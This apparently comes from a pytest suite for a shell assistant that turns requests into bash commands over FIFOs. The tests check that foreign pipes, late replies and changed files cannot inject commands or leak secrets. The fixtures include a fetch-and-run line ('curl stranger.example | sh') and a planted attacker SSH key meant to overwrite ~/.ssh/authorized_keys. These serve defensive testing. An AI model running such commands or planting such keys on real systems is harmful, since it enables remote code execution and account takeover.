"""bash's requests on its own pipes (pipes.py; shellper.bash's __shellper_send_pipe):
everything after a terminal's first request, which goes through the client.

Real daemons, real bash in tmux, real FIFOs, the stand-in model server.
What every request path must do is also run on the pipes by test_shell_behaviour.py
(the bash-pipes cases); here is what only the pipes can get wrong.
"""

from __future__ import annotations

import contextlib
import os
import re
import select
import shutil
import subprocess
import sys
import tempfile
import time

import pytest
from shellharness import (
    MESSAGE,
    PROMPT,
    ShellEnv,
    Timeout,
    cjk_folders,
    expect_parent,
    gbk_locale,
    hostile_aliases,
    one_reply_server,
    translate,
    wait_until,
)

from shellper_hook import protocol

pytestmark = pytest.mark.skipif(not (shutil.which("bash") and shutil.which("tmux")), reason="needs bash and tmux")

# Prints the length of the line being edited (a long suggestion wraps on screen).
LEN_KEY = r"""bind -x '"\C-t": builtin echo "len=${#READLINE_LINE}"'"""


@contextlib.contextmanager
def _own_env(ollama, **extra):
    """A ShellEnv (so its own daemon) for one test."""
    env = ShellEnv(ollama.base_url, extra_env=extra or None)
    try:
        yield env
    finally:
        env.close()


def _on_pipes(shell_env, tmux, ollama, work, **kw):
    """A bash whose first request is done: its next ones go through its pipes."""
    ollama.answer("pipe first", "ls", {"a": True})
    pane = shell_env.bash(tmux, cwd=work, **kw)
    translate(pane, "pipe first request")
    pane.wait_line("ls -a", timeout=20)
    pane.send("C-u")
    pane.wait_line("")
    assert os.path.exists(f"{shell_env.pipes_dir()}/{pane.pid}.in")
    return pane


# -- security ----------------------------------------------------------------------


@pytest.mark.skipif(os.getuid() != 0, reason="needs root, to give the planted files to another uid")
def test_pipes_in_a_folder_another_user_owns_are_never_used(tmux, ollama):
    """The client refuses a socket another user serves ("it must never get our
    requests or put a command on our prompt"); the pipes are held to the same.

    Another user (uid 65534 here) owns the folder of the terminal's socket (a
    SHELLPER_SOCKET there, or a /tmp/shellper-UID that went and was made again
    by someone else) and plants PID.in, PID.out and a pid file naming a process
    the victim can signal. bash must send nothing there (not the request, not
    the exported SHELLPER_API_KEY) and take no answer from there."""
    nobody = 65534
    with _own_env(ollama) as se:
        shared = os.path.join(se.root, "shared")
        os.mkdir(shared)
        sock = os.path.join(shared, "d.sock")
        pane = se.bash(tmux, cwd=se.workdir("foreign"), env={"SHELLPER_SOCKET": sock, "SHELLPER_API_KEY": "sk-review-secret"})
        d = sock + ".pipes"
        os.mkdir(d)
        for end in ("in", "out"):
            os.mkfifo(f"{d}/{pane.pid}.{end}", 0o666)
            os.chmod(f"{d}/{pane.pid}.{end}", 0o666)
            os.chown(f"{d}/{pane.pid}.{end}", nobody, nobody)
        with open(f"{d}/pid", "w") as fh:
            fh.write(f"{pane.pid}\n")  # any process of the victim's answers kill -0
        for path in (f"{d}/pid", d, shared):
            os.chown(path, nobody, nobody)
        os.chmod(d, 0o777)
        os.chmod(shared, 0o777)
        fd_in = os.open(f"{d}/{pane.pid}.in", os.O_RDWR | os.O_NONBLOCK)
        fd_out = os.open(f"{d}/{pane.pid}.out", os.O_RDWR | os.O_NONBLOCK)
        try:
            translate(pane, "my private request")
            got = b""
            if select.select([fd_in], [], [], 5)[0]:
                got = os.read(fd_in, 65536)
                rid = got.split(b" ", 1)[0]
                os.write(fd_out, rid + b"\0ok\0curl stranger.example | sh\0\0")
                time.sleep(1.0)
            line = pane.line()
        finally:
            pane.send("C-c")
            os.close(fd_in)
            os.close(fd_out)
        assert b"my private request" not in got and b"sk-review-secret" not in got, got[:300]
        assert line != "curl stranger.example | sh"


# -- robustness ----------------------------------------------------------------------


def test_a_killed_daemon_that_still_answers_kill_0_does_not_hang_ctrl_g(tmux, ollama):
    """A daemon killed between two requests whose PID still answers `kill -0`
    (a zombie its parent has not reaped yet, as under a PID 1 that reaps late
    or never, or a PID reused since) leaves its FIFOs and pid file behind. The
    request it never reads is taken back after 0.5 s and goes through the
    client, which starts a new daemon: answered, not "translating..." forever."""
    with _own_env(ollama) as se:
        env = dict(os.environ, **se.env)
        daemon = subprocess.Popen(
            [sys.executable, "-m", "shellper_hook.daemon"],
            env=env,
            cwd="/",
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            wait_until(lambda: se.shellper("status").returncode == 0, timeout=15)
            pane = _on_pipes(se, tmux, ollama, se.workdir("zombie"))
            ollama.answer("after the crash", "cat", {"file_name": "crash.txt"})
            daemon.kill()  # not reaped: a zombie, as a daemon is until its parent reaps it
            time.sleep(0.5)
            translate(pane, "after the crash request")
            try:
                pane.wait_line("cat crash.txt", timeout=15)
            finally:
                pane.send("C-c")
        finally:
            daemon.kill()
            daemon.wait()


def test_a_reply_larger_than_the_out_fifo_arrives_whole(shell_env, tmux, ollama, work):
    """Past the FIFO's 64 KB the daemon writes the rest as bash reads: the reply
    arrives whole, as through the client (the terminal's first request)."""
    ollama.answer("huge", "echo", {"content": "y" * 70000})
    pane = shell_env.bash(tmux, cwd=work, after=LEN_KEY)
    for way in ("client", "pipes"):
        translate(pane, "huge reply please")
        pane.wait_for(MESSAGE, timeout=20)  # the answer's note, or an error
        time.sleep(0.3)
        pane.send("C-t")
        pane.wait_for("len=", timeout=5)
        shown = pane.since_mark()
        assert "unexpected answer" not in shown and re.search(r"len=7\d{4}", shown), (way, shown[-300:])
        pane.send("C-u")
        pane.wait_line("")
        assert os.path.exists(f"{shell_env.pipes_dir()}/{pane.pid}.in")


def test_in_a_gbk_locale_the_daemon_judges_the_real_folder(shell_env, tmux, ollama, work, tmp_path):
    """In GBK (Big5, Shift_JIS alike) a backslash can be a character's second
    byte: the folder a中\\u002Fb中\\u002Fc must reach the daemon through the pipes
    as itself, not as the decoy a中/b中/c, whose `cd ..` goes elsewhere."""
    loc = gbk_locale(str(tmp_path))
    if loc is None:
        pytest.skip("no zh_CN.GBK locale, and localedef could not make one (Debian: apt-get install locales)")
    # The daemon starts from a UTF-8 environment, as the other tests' daemon.
    subprocess.run(
        [sys.executable, "-m", "shellper_hook.client"],
        input=b"start\0\0bash\0\0\0\0",
        env={**os.environ, **shell_env.env},
        cwd="/",
        check=True,
        timeout=30,
    )
    real, parent, decoy = cjk_folders(work)
    pane = _on_pipes(shell_env, tmux, ollama, real, env=loc)
    ollama.answer("cjk parent", "cd", {"folder": ".."})
    translate(pane, "cjk parent request")
    pane.wait_line("cd ..", timeout=20)
    expect_parent(pane, parent, decoy)


def _fds(pid: int) -> dict:
    return {n: os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")}


@pytest.mark.skipif(not os.path.isdir("/proc/self/fd"), reason="needs /proc")
def test_ctrl_c_right_after_ctrl_g_leaves_no_pipe_open_in_the_shell(shell_env, tmux, ollama, work):
    """Ctrl-C a few ms after Ctrl-G (before the terminal takes it as a key) interrupts
    the widget as it opens its pipes: none may stay open in the shell, nor its
    terminal modes changed (Ctrl-C still interrupts a command)."""
    pane = _on_pipes(shell_env, tmux, ollama, work)
    before = _fds(pane.pid)
    ollama.delay = 0.5
    try:
        for i in range(16):
            pane.type("leak request")
            pane.send("C-g")
            time.sleep(i % 8 * 0.003)
            pane.send("C-c")
            time.sleep(0.1)
            pane.send("C-c", "C-u")
        # (bash may drop what is typed just after such Ctrl-Cs, with or without shellper)
        for i in range(8):
            try:
                pane.run(f"echo settled-{i}", wait=f"settled-{i}\n", timeout=1)
                break
            except Timeout:
                pane.send("C-u")
    finally:
        ollama.delay = 0.0
    pane.run("true")  # (the first line run reported the pending suggestion: its report's pipe closes at this Enter)
    assert _fds(pane.pid) == before
    pane.mark()
    pane.type("sleep 30")
    pane.send("Enter")
    time.sleep(0.5)
    pane.send("C-c")
    pane.wait_prompt(timeout=3)


# -- settings ----------------------------------------------------------------------


def test_a_config_home_with_a_trailing_slash_is_not_other_settings(tmux, ollama):
    """XDG_CONFIG_HOME=/x/config/ (a trailing slash): Python's config path is
    /x/config/shellper/config.toml, and bash's must be the same, or every
    request after the first would say "this daemon started with other
    settings ... run `shellper stop`", which no restart cures.
    (test_shell_settings.py compares both shells' settings with Python's.)"""
    with _own_env(ollama) as se:
        se.env["XDG_CONFIG_HOME"] += "/"
        pane = _on_pipes(se, tmux, ollama, se.workdir("slash"))
        assert "other settings" not in pane.screen()  # the first request, through the client
        ollama.answer("slash", "cat", {"file_name": "slash.txt"})
        translate(pane, "slash request")
        pane.wait_line("cat slash.txt", timeout=10)
        time.sleep(0.3)
        assert "other settings" not in pane.since_mark()


# -- bash versions -----------------------------------------------------------------


OLD_BASH = os.environ.get("SHELLPER_TEST_OLD_BASH", "")  # a bash 4.0 or 4.1 binary (README: Ctrl-G from 4.0)


def _version(path: str) -> tuple:
    import subprocess

    out = subprocess.run([path, "-c", 'echo "${BASH_VERSINFO[0]} ${BASH_VERSINFO[1]}"'], capture_output=True, text=True).stdout.split()
    return tuple(int(x) for x in out)


@pytest.mark.skipif(not (OLD_BASH and os.access(OLD_BASH, os.X_OK)), reason="set SHELLPER_TEST_OLD_BASH to a bash 4.0/4.1 binary")
def test_bash_4_1_still_loads_shellper_and_keeps_the_users_aliases(shell_env, tmux, ollama, work):
    """The file parses in bash 4.0/4.1 (no `[[ -v NAME ]]`, no `printf '%(%s)T'`:
    4.2's): loaded, Ctrl-G bound, the user's aliases on; no error at start."""
    ollama.answer("old bash", "ls", {"a": True})
    rc = f"PS1='{PROMPT}'\nPROMPT_COMMAND=\neval \"$(shellper init bash)\"\nalias ll='echo ALIAS-WORKS'\n"
    dot = shell_env._new_home(".bashrc", rc)
    pane = shell_env._start(tmux, [OLD_BASH, "--rcfile", os.path.join(dot, ".bashrc"), "-i"], dict(shell_env.env), work)
    pane.run("ll", wait=re.compile(r"ALIAS-WORKS|not found"))
    assert "ALIAS-WORKS" in pane.screen()
    assert "syntax error" not in pane.screen() and "invalid format" not in pane.screen()
    pane.send("C-u")
    translate(pane, "old bash request")
    try:
        pane.wait_line("ls -a", timeout=15)
    except Timeout:
        pytest.fail(f"Ctrl-G does nothing under {OLD_BASH}:\n{pane.screen()}")


def test_a_daemon_that_dies_while_bash_waits_on_its_pipes_leaves_the_request(shell_env, tmux, ollama, work):
    pane = _on_pipes(shell_env, tmux, ollama, work)
    ollama.delay = 30.0
    translate(pane, "pipe doomed request")
    pane.wait_for("translating...")
    wait_until(lambda: any("pipe doomed" in str(r) for r in ollama.requests), timeout=10)
    os.kill(shell_env.daemon_pid(), 9)
    pane.wait_for("no answer from the daemon", timeout=5)
    pane.wait_line("pipe doomed request")
    ollama.delay = 0.0
    # The next request starts a new daemon (through the client) and is answered.
    pane.send("C-u")
    translate(pane, "pipe first request")
    pane.wait_line("ls -a", timeout=20)


def test_a_cancelled_requests_late_answer_never_lands_on_the_line(shell_env, tmux, ollama, work):
    pane = _on_pipes(shell_env, tmux, ollama, work)
    ollama.answer("pipe late", "cat", {"file_name": "late.txt"})
    ollama.answer("pipe quick", "cat", {"file_name": "quick.txt"})
    ollama.delay = 1.5
    translate(pane, "pipe late request")
    pane.wait_for("translating...")
    wait_until(lambda: any("pipe late" in str(r) for r in ollama.requests), timeout=10)
    pane.send("C-c")
    pane.wait_line("pipe late request", timeout=3)
    wait_until(lambda: ollama.disconnects >= 1, timeout=5)  # the model call itself was cancelled
    pane.send("C-u")
    ollama.delay = 0.0
    translate(pane, "pipe quick request")
    pane.wait_line("cat quick.txt", timeout=10)
    time.sleep(2.0)  # past when the cancelled one would have answered
    assert pane.line() == "cat quick.txt"
    assert shell_env.history(pane.pid)["pending"]["command"] == "cat quick.txt"
    pane.send("C-u")
    # Late replies, as a daemon would send one just as its request was given up: one
    # left waiting (and half a field), one coming while the next request waits.
    out = os.open(f"{shell_env.pipes_dir()}/{pane.pid}.out", os.O_RDWR | os.O_NONBLOCK)
    try:
        os.write(out, b"1-1.1\0ok\0echo LATE-ONE\0\0half a fie")
        translate(pane, "pipe quick request")
        pane.wait_line("cat quick.txt", timeout=10)
        pane.send("C-u")
        ollama.delay = 1.0
        translate(pane, "pipe quick request")
        pane.wait_for("translating...")
        os.write(out, f"{pane.pid}-1.9\0ok\0echo LATE-TWO\0\0".encode())
        pane.wait_line("cat quick.txt", timeout=10)
    finally:
        os.close(out)
        ollama.delay = 0.0
    assert "LATE" not in pane.screen()


@pytest.mark.skipif(
    not (OLD_BASH and os.access(OLD_BASH, os.X_OK) and _version(OLD_BASH) < (4, 4)),
    reason="set SHELLPER_TEST_OLD_BASH to a bash 4.0-4.3 binary",
)
def test_old_bash_ctrl_g_prints_no_local_error_and_keeps_set_x(shell_env, tmux, ollama, work):
    """`local -` is bash 4.4's: a bash before it (no pipes) never runs it, so no
    "local: `-': not a valid identifier" at each Ctrl-G, and the user's `set -x` stays."""
    ollama.answer("old bash", "ls", {"a": True})
    rc = f"PS1='{PROMPT}'\nPROMPT_COMMAND=\neval \"$(shellper init bash)\"\n"
    dot = shell_env._new_home(".bashrc", rc)
    pane = shell_env._start(tmux, [OLD_BASH, "--rcfile", os.path.join(dot, ".bashrc"), "-i"], dict(shell_env.env), work)
    translate(pane, "old bash request")
    pane.wait_line("ls -a", timeout=15)
    error = "not a valid identifier" in pane.screen()
    pane.send("C-u")
    pane.run("set -x", wait=re.compile(r"\+ ?$|" + re.escape(PROMPT.rstrip())))
    translate(pane, "old bash request")
    pane.wait_line("ls -a", timeout=15)
    pane.send("C-u")
    pane.run('echo "OPTS=<$->"', wait=re.compile(r"OPTS=<[^$>]*>"))
    opts = re.findall(r"OPTS=<([^$>]*)>", pane.screen())[-1]
    assert not error and "x" in opts, f"local error shown: {error}; $- after set -x and Ctrl-G: {opts!r}"


# -- Enter on a suggestion: judged again on the files as they are (issue 19, item 14) --


def _logging_python(folder: str) -> tuple:
    """A python that notes the client's operation at each start, and the log's path."""
    log, logpy = os.path.join(folder, "starts.log"), os.path.join(folder, "logpy")
    with open(logpy, "w") as fh:
        # The client's operation: the request's first field, on its stdin (it takes no arguments).
        fh.write(
            '#!/bin/sh\nreq=$(mktemp) && cat >"$req"\n'
            "op=$(head -c 12 \"$req\" | tr '\\000' '\\n' | head -n 1)\n"
            f'case $op in translate|executed|closed|start|check) echo "$op" >> {log};; esac\n'
            f'exec <"$req"; rm -f "$req"; exec {sys.executable} "$@"\n'
        )
    os.chmod(logpy, 0o755)
    return log, logpy


def _starts(log: str) -> list:
    try:
        with open(log) as fh:
            return fh.read().split()
    except FileNotFoundError:
        return []


def _downloads(shell_env) -> tuple:
    """A folder right under HOME (as ~/Downloads) holding pkg/README, and ~/.ssh/authorized_keys."""
    dl = tempfile.mkdtemp(prefix="dl-", dir=shell_env.home)
    os.makedirs(os.path.join(dl, "pkg"))
    with open(os.path.join(dl, "pkg", "README"), "w") as fh:
        fh.write("package\n")
    keys = os.path.join(shell_env.home, ".ssh", "authorized_keys")
    os.makedirs(os.path.dirname(keys), mode=0o700, exist_ok=True)
    if not os.path.exists(keys):
        with open(keys, "w") as fh:
            fh.write("ssh-ed25519 MINE me@here\n")
    return dl, keys


def _refused_at_enter(pane, dl, keys) -> None:
    """`cp -r pkg/. ..` is on the line; pkg gains .ssh/authorized_keys: Enter refuses, twice; nothing runs."""
    mine = open(keys).read()
    os.makedirs(os.path.join(dl, "pkg", ".ssh"))
    with open(os.path.join(dl, "pkg", ".ssh", "authorized_keys"), "w") as fh:
        fh.write("ssh-ed25519 EVIL attacker@evil\n")
    for _ in range(2):  # the next Enter asks again: refused while the files stay so
        pane.mark()
        pane.send("Enter")
        pane.wait_for(re.compile(r"shellper: .*refused.*~/\.ssh"), timeout=5)
        pane.wait_line("cp -r pkg/. ..")
    time.sleep(0.3)
    assert open(keys).read() == mine and not os.path.exists(os.path.join(os.path.dirname(dl), "README"))


# On its pipes (no process started), in vi mode, under set -u and with aliases of every builtin used.
def test_enter_judges_the_suggestion_again_on_the_pipes(shell_env, tmux, ollama):
    dl, keys = _downloads(shell_env)
    log, logpy = _logging_python(dl)
    with open(os.path.join(dl, "notes.txt"), "w") as fh:
        fh.write("notes\n")
    ollama.answer("enter copy the package up", "cp", {"source": "pkg/.", "destination": ".."})
    ollama.answer("enter remove the notes", "rm", {"file_name": "notes.txt"})
    ollama.answer("enter make a folder", "mkdir", {"dir_name": "made"})
    pane = _on_pipes(
        shell_env, tmux, ollama, dl, before="set -u; set -o vi\n" + hostile_aliases("bash"), after=f"__shellper_python={logpy}"
    )

    # (a) pkg gains .ssh/authorized_keys between Ctrl-G and Enter: refused, nothing runs, the line stays.
    translate(pane, "enter copy the package up")
    pane.wait_line("cp -r pkg/. ..", timeout=20)
    _refused_at_enter(pane, dl, keys)
    pane.send("Escape", "d", "d", "i")
    pane.wait_line("")

    # (b) notes.txt becomes a folder: the first Enter (vi insert mode) shows what rm does now and runs
    # nothing; the second (vi command mode) runs it.
    translate(pane, "enter remove the notes")
    pane.wait_line("rm notes.txt", timeout=20)
    os.remove(os.path.join(dl, "notes.txt"))
    os.mkdir(os.path.join(dl, "notes.txt"))
    pane.mark()
    pane.send("Enter")
    pane.wait_for("shellper: the files changed since the suggestion", timeout=5)
    pane.wait_for(re.compile(r"shellper: fails: .*notes\.txt"))
    pane.wait_line("rm notes.txt")
    time.sleep(0.3)
    assert "cannot remove" not in pane.since_mark()
    pane.send("Escape")
    time.sleep(0.1)
    pane.send("Enter")
    pane.wait_for("rm: cannot remove 'notes.txt'", timeout=5)
    pane.wait_prompt()

    # (c) nothing changed: the first Enter runs it.
    translate(pane, "enter make a folder")
    pane.wait_line("mkdir made", timeout=20)
    pane.send("Enter")
    wait_until(lambda: os.path.isdir(os.path.join(dl, "made")), timeout=5)
    pane.wait_prompt()
    pane.run("echo opts=$-", wait=re.compile(r"opts=\S*u"))
    assert "unbound variable" not in pane.screen() and "HOSTILE" not in pane.screen()
    assert "check" not in _starts(log), _starts(log)  # every check went through the pipes
    ops = [e["command"] for e in shell_env.history(pane.pid, settled=True)["exchanges"]]
    assert ops[-2:] == ["rm notes.txt", "mkdir made"], ops


# No pipes (bash before 5.0, or none made): the check goes through the client.
def test_enter_judges_the_suggestion_again_through_the_client(shell_env, tmux, ollama):
    dl, keys = _downloads(shell_env)
    log, logpy = _logging_python(dl)
    ollama.answer("client copy the package up", "cp", {"source": "pkg/.", "destination": ".."})
    ollama.answer("client make a folder", "mkdir", {"dir_name": "made"})
    pane = shell_env.bash(tmux, cwd=dl, after=f"__shellper_pipes=0 __shellper_python={logpy}")
    translate(pane, "client copy the package up")
    pane.wait_line("cp -r pkg/. ..", timeout=20)
    _refused_at_enter(pane, dl, keys)
    pane.send("C-u")
    translate(pane, "client make a folder")
    pane.wait_line("mkdir made", timeout=20)
    pane.send("Enter")
    wait_until(lambda: os.path.isdir(os.path.join(dl, "made")), timeout=5)
    wait_until(lambda: len(_starts(log)) >= 6)
    assert _starts(log) == ["translate", "check", "check", "translate", "check", "executed"]


# The look predicts where `cd d` goes with the shell's own CDPATH (not the daemon's).
def test_cd_through_the_shells_cdpath(shell_env, tmux, ollama, work):
    elsewhere = os.path.join(work, "elsewhere")
    os.makedirs(os.path.join(elsewhere, "d"))
    here = os.path.join(work, "here")
    os.mkdir(here)
    pane = _on_pipes(shell_env, tmux, ollama, here, after=f"CDPATH='{elsewhere}'")
    ollama.answer("cdpath go into d", "cd", {"folder": "d"})
    translate(pane, "cdpath go into d")
    pane.wait_line("cd d", timeout=20)
    pane.wait_for(re.compile(r"shellper: moves the shell: goes to \S*/elsewhere/d \(found through CDPATH"), timeout=5)
    pane.run("", wait=re.compile(r"/elsewhere/d\s*$", re.M))  # bash prints where CDPATH took it


# -- the request bash writes: protocol.py's NUL fields, the same on the pipes and to the client --

SCRIPT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "shell", "shellper.bash")
PKG = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def _sent(tmp_path, way: str, text, setup: str = "", env: dict | None = None, cwd=None, op: str = "translate") -> tuple:
    """(the bytes bash wrote for request OP TEXT, its PID, its stdout and stderr): on its pipes,
    read from the FIFO, or through its client, read by a stand-in listener on the socket path."""
    sock = str(tmp_path / "d.sock")
    environ = {"HOME": str(tmp_path), "PATH": os.environ["PATH"], "LANG": "C.UTF-8", **(env or {})}
    head = f"source \"$1\"; __shellper_socket='{sock}' __shellper_python='{sys.executable}' __shellper_pkg='{PKG}'\n{setup}\n"
    if way == "pipes":
        os.mkdir(sock + ".pipes", 0o700)
        script = head + f'IFS= read -r _; __shellper_send_pipe {op} "$2" && echo sent\necho "opts=$-"'
    else:
        environ["SHELLPER_SOCKET"] = sock  # (an exported SHELLPER_* setting: sent too)
        srv, received = one_reply_server(sock, b"ok\0ls\0\0")
        script = (
            head + f'__shellper_start_client {op} "$2" && __shellper_poll 10 && printf "<%s>" "${{__shellper_reply[@]}}"\necho "opts=$-"'
        )
    proc = subprocess.Popen(
        ["bash", "--norc", "--noprofile", "-c", script, "bash", SCRIPT, text],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environ,
        cwd=cwd or str(tmp_path),
    )
    if way == "pipes":
        fifos = [f"{sock}.pipes/{proc.pid}.{end}" for end in ("in", "out")]
        for path in fifos:
            os.mkfifo(path, 0o600)
        with open(f"{sock}.pipes/pid", "w") as fh:
            fh.write(f"{os.getpid()}\n")  # a live process: the daemon, as far as bash can tell
        fd = os.open(fifos[0], os.O_RDWR | os.O_NONBLOCK)  # held open, so what bash writes stays
        try:
            out, err = proc.communicate(b"go\n", timeout=20)
            data = os.read(fd, 65536) if select.select([fd], [], [], 1)[0] else b""
        finally:
            os.close(fd)
        assert b"sent" in out, err
    else:
        try:
            out, err = proc.communicate(b"", timeout=20)
            wait_until(lambda: received, timeout=5)
        finally:
            srv.close()
        data = received[0]
        assert b"<ok><ls><>" in out, err
    return data, proc.pid, out, err


def _fields(data: bytes) -> tuple:
    """(the five fixed fields, {name: value} of the named ones) of one request."""
    assert protocol.request_end(data) == len(data), data
    parts = data[:-2].split(b"\0")
    return parts[:5], dict(p.split(b"=", 1) for p in parts[5:])


@pytest.mark.parametrize("way", ["pipes", "client"])
def test_bash_sends_the_fields_and_its_exported_settings_only(way, tmp_path):
    """Python alone reads the environment: bash sends every exported SHELLPER_* variable,
    HOME and XDG_CONFIG_HOME when exported, and its CDPATH even unexported; never a variable
    it did not export."""
    env = {"SHELLPER_MODEL": "exported-model", "XDG_CONFIG_HOME": str(tmp_path / "conf")}
    setup = "SHELLPER_TIMEOUT=9 CDPATH='/x:/y'; export SHELLPER_KEEP_ALIVE='5 m'; declare -x SHELLPER_EMPTY"
    data, pid, _, _ = _sent(tmp_path, way, "list the files", setup, env)
    fixed, named = _fields(data)
    assert fixed == [b"translate", str(pid).encode(), b"bash", str(tmp_path).encode(), b"list the files"]
    if way == "pipes":  # an ID no other shell of this PID used
        assert re.fullmatch(rb"%d-\d+\.1" % pid, named.pop(b"id"))
    else:  # the first request asks for the pipes
        assert named.pop(b"pipes") == b"1" and named.pop(b"SHELLPER_SOCKET") == str(tmp_path / "d.sock").encode()
    assert named == {
        b"SHELLPER_MODEL": b"exported-model",
        b"SHELLPER_KEEP_ALIVE": b"5 m",
        b"HOME": str(tmp_path).encode(),
        b"XDG_CONFIG_HOME": str(tmp_path / "conf").encode(),
        b"CDPATH": b"/x:/y",
    }
    req = protocol.decode_request(data)  # and the daemon reads it
    assert (req["session"], req["cdpath"], req["settings"]["SHELLPER_MODEL"]) == (pid, "/x:/y", "exported-model")
    assert req["settings"]["config"] == str(tmp_path / "conf" / "shellper" / "config.toml")


@pytest.mark.parametrize("way", ["pipes", "client"])
def test_every_op_is_built_the_same_way(way, tmp_path):
    """Enter's check on the pipes, a report through the client: the same fields."""
    if way == "pipes":
        data, pid, _, _ = _sent(tmp_path, way, "rm notes.txt", op="check")
        fixed, named = _fields(data)
        assert fixed[:3] == [b"check", str(pid).encode(), b"bash"] and fixed[4] == b"rm notes.txt" and b"id" in named
        return
    sock = str(tmp_path / "d.sock")
    srv, received = one_reply_server(sock, b"")
    script = (
        f'source "$1"; __shellper_python={sys.executable} __shellper_pkg={PKG}\n'
        'CDPATH=/c; ( __shellper_send executed "$2" status=3 ); ( __shellper_send closed "" )'
    )
    try:
        subprocess.run(
            ["bash", "--norc", "-c", script, "bash", SCRIPT, "ls -a"],
            env={"HOME": str(tmp_path), "PATH": os.environ["PATH"], "SHELLPER_SOCKET": sock},
            cwd=tmp_path,
            capture_output=True,
            timeout=20,
        )
        wait_until(lambda: len(received) == 2, timeout=5)
    finally:
        srv.close()
    (fixed, named), (fixed2, _) = _fields(received[0]), _fields(received[1])
    assert fixed[0] == b"executed" and fixed[1].isdigit() and fixed[2:] == [b"bash", str(tmp_path).encode(), b"ls -a"]
    assert named[b"status"] == b"3" and named[b"CDPATH"] == b"/c" and fixed2[0] == b"closed" and fixed2[1] == fixed[1]
    assert protocol.decode_request(received[0])["status"] == 3


@pytest.mark.parametrize("way", ["pipes", "client"])
def test_set_x_never_shows_the_api_key_and_stays_on(way, tmp_path):
    secret = "sk-never-traced-4711"
    data, _, out, err = _sent(tmp_path, way, "list the files", "set -x", {"SHELLPER_API_KEY": secret})
    assert secret.encode() in data  # sent: it is the terminal's setting
    assert secret.encode() not in err, err.decode(errors="replace")[-500:]
    assert b"+ " in err and re.search(rb"opts=\S*x", out), (out, err[-300:])


@pytest.mark.parametrize("way", ["pipes", "client"])
@pytest.mark.parametrize("locale", ["C.UTF-8", "GBK"])
def test_folder_and_text_bytes_pass_unchanged_in_any_locale(way, locale, tmp_path):
    """In GBK (Big5, Shift_JIS alike) a backslash can be a character's second byte, and bytes
    that are not UTF-8 are the user's: bash sends them as they are; the daemon judges them."""
    env = {}
    if locale == "GBK":
        env = gbk_locale(str(tmp_path))
        if env is None:
            pytest.skip("no zh_CN.GBK locale, and localedef could not make one (Debian: apt-get install locales)")
    real, _, _ = cjk_folders(str(tmp_path))
    text = "显示\\文件".encode("gbk") + b" bad \xff byte"
    data, _, _, _ = _sent(tmp_path, way, text, env=env, cwd=real)
    fixed, _ = _fields(data)
    assert fixed[3:] == [os.fsencode(real), text]
